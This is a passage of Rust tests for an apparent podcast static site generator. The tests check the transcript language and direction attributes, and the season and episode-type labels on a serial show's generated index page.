        let edited = manifest.replacen("language = \"en\"", &format!("language = \"{page}\""), 1).replacen(
            given,
            &format!(
                "transcript = [{{ file = \"transcripts/coredns-miek-gieben.vtt\", language = \"{transcript}\" }}]"
            ),
            1,
        );
        show.write("episodes.toml", &edited);
        show.build().ok();
        let html = show.read("public/episodes/coredns-miek-gieben/index.html");
        let div = format!("<div class=\"transcript\" lang=\"{transcript}\" dir=\"{dir}\">");
        assert!(html.contains(&div), "{div}: {html}");
    }
}

/// A serial show of seasons says each episode's season on its index, and
/// where a trailer or a bonus is; its index leads with the season it
/// starts at. A show of one season says none.
#[test]
fn a_serial_shows_index_says_each_episodes_season_and_type_and_where_to_start() {
    let show = Show::with(PODCAST_TABLE, &["pair-5s.mp3"]);
    let mut manifest = format!("{PODCAST_TABLE}type = \"serial\"\n");
    let episodes =
        [("Trailer", 1, "type = \"trailer\""), ("Pilot", 1, "episode = 1"), ("Extra", 1, "type = \"bonus\"")];
    for (i, (title, season, extra)) in episodes.into_iter().chain([("Return", 2, "episode = 1")]).enumerate() {
        let name = format!("e{i}.mp3");
        std::fs::hard_link(show.path("media/pair-5s.mp3"), show.path("media").join(&name)).unwrap();
        let date = format!("2024-01-0{}T09:00:00Z", i + 1);
        manifest.push_str(&episode(title, &format!("g{i}"), &date, &[&name]));
        manifest.push_str(&format!("season = {season}\n{extra}\n"));
    }
    show.write("episodes.toml", &manifest);
    show.build().ok();
    let index = show.read("public/index.html");
    let lead = "<h2>Start here · <span>Season 2</span></h2>\n<h3><a href=\"episodes/return/\">Return</a></h3>";
    assert!(index.contains(lead), "{index}");
    let metas: Vec<&str> = index.match_indices("<p class=\"meta\"><span").map(|(at, _)| &index[at + 16..]).collect();
    // (After the show's "by" line.)
    let metas: Vec<&str> = metas.iter().skip(1).map(|m| &m[..m.find("<time").unwrap()]).collect();
    assert_eq!(
        metas,
        [
            // (Season 2's episode 1 is the first, in its box.)
            "<span>Season 1</span> · <span>Trailer</span> · ",
            "<span>Season 1</span> · <span>Episode 1</span> · ",
            "<span>Season 1</span> · <span>Bonus</span> · ",
        ]
    );
    // One season: no season said, the marks stay.
    show.write("episodes.toml", &manifest.replace("season = 2", "season = 1"));
    show.build().ok();
    let index = show.read("public/index.html");
    assert!(!index.contains("Season") && index.contains("<h2>Start here</h2>"), "{index}");
    // (The trailer, first heard, is in the box: the marks are in the list.)
    assert!(index.contains("<p class=\"meta\"><span>Bonus</span> · <time"), "{index}");
}
